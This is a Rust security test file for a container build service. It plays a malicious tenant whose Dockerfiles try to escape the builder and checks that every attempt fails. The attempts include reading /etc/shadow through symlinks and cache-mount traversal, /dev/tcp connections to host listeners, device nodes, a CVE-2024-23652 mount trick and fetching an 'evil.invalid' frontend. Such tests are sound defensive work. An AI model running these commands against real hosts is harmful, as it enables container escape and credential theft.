//! Dockerfiles and build scripts of somebody who means harm: what they want from the host, from other apps, from whoever
//! waits.

use crate::dockerfile::{SERVE, app, image_of};
use e2e::{World, program};
use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

#[test]
fn images_and_caches_of_other_apps_are_out_of_reach() {
    let world = World::new();
    let victim = app(
        &world,
        "victim",
        &format!(
            "FROM hoist/stack-run AS look\nRUN --mount=type=cache,id=kept,target=/c echo private >/c/file{SERVE}COPY --from=look /etc/passwd /x\n"
        ),
    );
    victim.push().ok();
    let image = image_of(&world, "b1");
    // A word that nobody is told: 16 hex digits.
    let (_, key) = image.rsplit_once("b1-").unwrap();
    assert_eq!(key.len(), 16, "{image}");
    assert!(!victim.run("apps:info", &["--format", "json"]).ok().all().contains(key));
    let namespace = image.strip_prefix("hoist/").unwrap().split(':').next().unwrap();
    // By its name, refused before anything is built; that of one that is not there is refused alike.
    let thief = app(&world, "thief", &format!("FROM {image}\nRUN cat /x\n"));
    for dockerfile in [
        format!("FROM {image}\nRUN cat /x\n"),
        format!("ARG R=hoist\nFROM ${{R}}/{namespace}:b1\n"),
        format!("FROM hoist/stack-run\nCOPY --from={image} /x /x\n"),
        format!("FROM hoist/stack-run\nRUN --mount=type=bind,from={image},target=/v cat /v/x\n"),
    ] {
        thief.commit_change("Dockerfile", &dockerfile);
        thief.push().fails().says("cannot be built on").hides("RUN");
    }
    // Past the reading of the file, there is the name to guess.
    thief.commit_change("Dockerfile", &format!("ARG R=hoi\nFROM ${{R}}s${{R:+t}}/{namespace}:b1\nRUN cat /x\n"));
    thief.push().fails().says("Push rejected");
    // Nor is a cache found by another's namespace, however it is asked for.
    let look = format!(
        "FROM hoist/stack-run AS look\nARG BUILDKIT_CACHE_MOUNT_NS={namespace}\nARG AT=1\n\
         RUN --mount=type=cache,id=kept,target=/a --mount=type=cache,id=../{namespace}/kept,target=/b \
         --mount=type=cache,id={namespace}/kept,target=/c echo found=$(cat /a/file /b/file /c/file 2>/dev/null) end{SERVE}COPY --from=look /etc/passwd /x\n"
    );
    thief.commit_change("Dockerfile", &look);
    thief.run("config:set", &[&format!("BUILDKIT_CACHE_MOUNT_NS={namespace}")]).ok();
    thief.run("apps:set", &["build-args=BUILDKIT_CACHE_MOUNT_NS"]).ok();
    thief.push().ok().says("found= end");
}

/// When the step is over, the server reads what it made, as root: a link on the way there led to the server's own folders.
#[test]
fn links_where_output_is_looked_for_do_not_lead_to_the_hosts_files() {
    let world = World::new();
    world.app("victim", "tests/apps/static").push().ok();
    let thief = world.app("thief", "tests/apps/static");
    let build = |script: &str| format!("{{\"name\":\"x\",\"scripts\":{{\"build\":\"{script}\"}}}}");
    for (root, script) in [
        ("a/repos", "ln -s ../../.. a".to_owned()),
        ("a/hoist", "ln -s /var/lib a".to_owned()),
        ("out", "ln -s ../../../repos out".to_owned()),
        ("a/b", format!("ln -s {} a", world.data().parent().unwrap().display())),
    ] {
        thief.commit_change("static.json", &format!("{{\"root\":\"{root}\"}}"));
        thief.commit_change("package.json", &build(&script));
        thief.push().ok();
        let find = "find / -xdev '(' -name '*.git' -o -name stacks -o -name '*.db' ')' -not -path '/proc/*'";
        // It may not look everywhere, which is its own kind of failure.
        thief.run("run", &[find]).exits(1).hides("/app");
    }
}

/// The server removes what a build left: by recursion, folders deeper than its stack ended it, again at each start.
#[test]
fn folders_nested_without_end_end_their_own_build_only() {
    let world = World::new();
    let other = world.app("other", "tests/apps/echo");
    other.push().ok();
    let deep = world.app("deep", "tests/apps/static");
    let nest = "node -e 'for (let n = 0; n < 12000; n++) { fs.mkdirSync(`d`); process.chdir(`d`) }'";
    deep.commit_change("static.json", "{\"root\":\"site\"}");
    deep.commit_change(
        "package.json",
        &format!("{{\"name\":\"x\",\"scripts\":{{\"build\":\"cd /cache && {nest}\"}}}}"),
    );
    deep.push();
    deep.commit_change(
        "package.json",
        &format!("{{\"name\":\"x\",\"scripts\":{{\"build\":\"mkdir site; cd site && {nest}\"}}}}"),
    );
    deep.push().fails().says("200 deep");
    deep.run("apps:destroy", &["--confirm", "deep"]).ok();
    world.restart_serve();
    assert!(other.answers_with("v1"));
}

#[test]
fn the_hosts_files_devices_and_rights_stay_out_of_reach() {
    let world = World::new();
    let mark = world.folder("host").join("mark");
    std::fs::write(&mark, "host").unwrap();
    let mark = mark.to_str().unwrap();
    let probe = format!(
        "FROM hoist/stack-run AS look\nCOPY . /all\n\
         RUN --mount=type=bind,source=/,target=/ctx,rw echo changed > {mark} 2>/dev/null; ls /ctx/etc 2>/dev/null; \
         cat /all/link 2>/dev/null | head -1 | cut -d: -f1 | sed 's/^/link=/'; \
         mount -t tmpfs none /mnt 2>/dev/null && echo mounted; \
         echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo tuned; \
         mknod /disk b 254 0 2>/dev/null && head -c 1 /disk 2>/dev/null | wc -c | sed 's/^/disk=/'; \
         ls /var/run/docker.sock /run/docker.sock /run/buildkit 2>/dev/null; \
         unshare -r true 2>/dev/null && echo unshared; grep CapEff /proc/self/status; echo end\n{}COPY --from=look /etc/passwd /x\n",
        SERVE
    );
    let app = app(&world, "probe", &probe);
    std::os::unix::fs::symlink("/etc/shadow", app.dir.join("link")).unwrap();
    app.commit_change("more", "x");
    let pushed = app.push().ok().says("disk=0").says("       end");
    let lines: Vec<&str> = pushed.err.lines().map(|line| line.trim_start_matches("remote:").trim()).collect();
    for bad in ["mounted", "tuned", "unshared", "link=root"] {
        assert!(!lines.contains(&bad), "{bad}: {pushed}");
    }
    assert!(!pushed.all().contains("/run/docker.sock\n"), "{pushed}");
    assert_eq!(std::fs::read_to_string(mark).unwrap(), "host");
    for (line, what) in [("RUN --network=host true", "network"), ("RUN --security=insecure true", "security")] {
        app.commit_change("Dockerfile", &format!("FROM hoist/stack-run\n{line}\n"));
        app.push().fails().says(what);
    }
    app.commit_change("Dockerfile", "FROM hoist/stack-run\nCOPY ../../../etc/shadow /x\n");
    app.push().fails().says("not among the files");
    app.run("apps:set", &["root=../.."]).fails();
    app.run("apps:set", &["dockerfile=/etc/passwd"]).fails();
}

/// Counts who comes, on every address of this host, and answers each with a secret.
struct Secret {
    port: u16,
    came: Arc<AtomicU32>,
}

impl Secret {
    fn listen() -> Secret {
        let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
        let (port, came) = (listener.local_addr().unwrap().port(), Arc::new(AtomicU32::new(0)));
        let count = Arc::clone(&came);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::Relaxed);
                let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 11\r\n\r\nhost-secret");
            }
        });
        Secret { port, came }
    }
}

/// Every spelling of a fetch that the builder understands is a fetch from inside its walls: nothing of the host answers.
#[test]
fn what_the_builder_itself_fetches_never_comes_from_the_host() {
    let world = World::new();
    let secret = Secret::listen();
    let all = program("hostname").arg("-I").output().unwrap();
    let own = String::from_utf8_lossy(&all.stdout)
        .split_whitespace()
        .find(|a| a.contains('.'))
        .unwrap_or("127.0.0.1")
        .to_owned();
    let app = app(&world, "reach", "FROM x\n");
    let at = |host: &str| format!("{host}:{}", secret.port);
    let (here, host) = (at("127.0.0.1"), at(&own));
    for lines in [
        format!("ADD http://{here}/x /s"),
        format!("ADD http://{host}/x /s"),
        format!("ADD http:\\/\\/{here}/x /s"),
        format!("ADD http:'/'/{here}/x /s"),
        format!("ADD [\"http:\\u002f\\u002f{here}/x\", \"/s\"]"),
        format!("RUN true \\\r\r\nADD \\\nhttp://{here}/x /s"),
        format!("RUN true \\\\\nADD \\\nhttp://{here}/x /s"),
        format!("ARG A=http\nADD ${{A}}://{host}/x /s"),
        format!("ADD http://{here}/r.git /s"),
        format!("RUN --network=host (exec 3<>/dev/tcp/127.0.0.1/{} && cat <&3) >/s 2>&1", secret.port),
        format!("RUN --security=insecure (exec 3<>/dev/tcp/127.0.0.1/{} && cat <&3) >/s 2>&1", secret.port),
        format!("RUN (exec 3<>/dev/tcp/{own}/{} && timeout 5 cat <&3) >/s 2>&1", secret.port),
        format!("COPY --from={here}/team/x:1 /m /s"),
        format!("COPY --from={host}/team/x:1 /m /s"),
    ] {
        app.commit_change("Dockerfile", &format!("FROM hoist/stack-run\n{lines}\nRUN cat /s; exit 7\n"));
        app.push().fails().hides("host-secret");
    }
    assert_eq!(secret.came.load(Ordering::Relaxed), 0, "somebody came to the host's own listener");
}

/// CVE-2024-23652: what a builder removes after a step can be led out of the step's root by a link.
#[test]
fn a_mount_that_is_moved_away_removes_nothing_of_the_host() {
    let world = World::new();
    let victim = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(victim.path().join("b")).unwrap();
    let empty = victim.path().join("b/empty");
    std::fs::write(&empty, "").unwrap();
    let path = victim.path().display();
    let app = app(
        &world,
        "mover",
        &format!(
            "FROM hoist/stack-run AS a\n{}\nRUN --mount=type=tmpfs,target=/a/b/empty mv /a /a2; ln -s {path} /a; echo moved{SERVE}COPY --from=a /etc/passwd /x\n",
            crate::dockerfile::salt()
        ),
    );
    app.push().says("moved");
    assert!(empty.exists(), "the builder removed a file of the host");
    for lines in [
        "RUN --mount=type=cache,source=../../../..,target=/c ls /c/etc/shadow",
        "RUN --mount=type=cache,target=/c ln -s / /c/up\nRUN --mount=type=cache,source=up,target=/c cat /c/etc/hostname /c/etc/shadow",
    ] {
        app.commit_change("Dockerfile", &format!("FROM hoist/stack-run\n{lines}\nRUN exit 7\n"));
        let shadow = std::fs::read_to_string("/etc/shadow").unwrap();
        let root = shadow.lines().find(|line| line.starts_with("root:")).unwrap().to_owned();
        app.push().fails().hides(&root);
    }
}

/// The builder knows the result of a step by the step's text, which others can write as well.
#[test]
fn what_a_step_made_of_a_secret_is_nobody_elses() {
    let world = World::new();
    let steps = format!(
        "FROM hoist/stack-run AS made\n{}\nRUN --mount=type=secret,id=TOKEN echo \"made of $(cat /run/secrets/TOKEN)\" >/made; true\n",
        crate::dockerfile::salt()
    );
    let end = format!("RUN cat /made\n{SERVE}COPY --from=made /made /made\n");
    let owner = app(&world, "owner", &format!("{steps}{end}"));
    owner.user.ssh(&["apps:create", "owner"]).ok();
    owner.run("config:set", &["TOKEN=word-of-the-owner"]).ok();
    owner.run("apps:set", &["build-secrets=TOKEN"]).ok();
    owner.push().ok().says("made of word-of-the-owner");
    let thief = app(&world, "thief", &format!("{steps}{end}"));
    thief.push().ok().says("made of").hides("word-of-the-owner");
    // The owner's own next build still has it.
    owner.run("ps:rebuild", &[]).ok().says("cached");
}

#[test]
fn a_frontend_of_somebodys_own_is_refused_unfetched() {
    let world = World::new();
    let app = app(&world, "front", "FROM x\n");
    for head in ["# syntax=evil.invalid/frontend:1", "# x=y\n#SYNTAX = evil.invalid/docker/dockerfile"] {
        app.commit_change("Dockerfile", &format!("{head}\nFROM hoist/stack-run\n"));
        let begun = Instant::now();
        app.push().fails().says("evil.invalid").says("# syntax=docker/dockerfile:1");
        assert!(begun.elapsed() < Duration::from_secs(20), "{:?}", begun.elapsed());
    }
    // A spelling that only the builder knows: it takes its own frontend all the same, to which this is no Dockerfile.
    app.commit_change("Dockerfile", "{\"syntax\": \"evil.invalid/frontend:1\"}\n");
    app.push().fails().says("unknown instruction").hides("failed to resolve");
    // The usual one is built in, and not fetched either.
    app.commit_change("Dockerfile", &format!("# syntax=docker/dockerfile:1.99{SERVE}"));
    app.push().ok().says("the builder's built-in one is used");
}

#[test]
fn a_flood_of_output_ends_and_is_clipped() {
    let world = World::new();
    let other = app(&world, "other", SERVE);
    other.push().ok();
    let flood = "FROM hoist/stack-run\nRUN yes hoist-flood | head -c 300000000; head -c 3000000 /dev/zero | tr '\\0' x; exit 9\n";
    let (pushed, report) = world.load("other.localhost", 20, || app(&world, "flood", flood).push().fails());
    report.none_lost();
    assert!(pushed.err.len() < 20_000_000, "{} bytes", pushed.err.len());
    let end = pushed.err.rsplit("Failed: ").next().unwrap();
    assert!(end.lines().count() < 40, "{end}");
    let stored = program("du").args(["-sm", world.data().join("logs").to_str().unwrap()]).output().unwrap();
    let megabytes: u64 = String::from_utf8_lossy(&stored.stdout).split_whitespace().next().unwrap().parse().unwrap();
    assert!(megabytes < 64, "{megabytes} MB of logs");
}
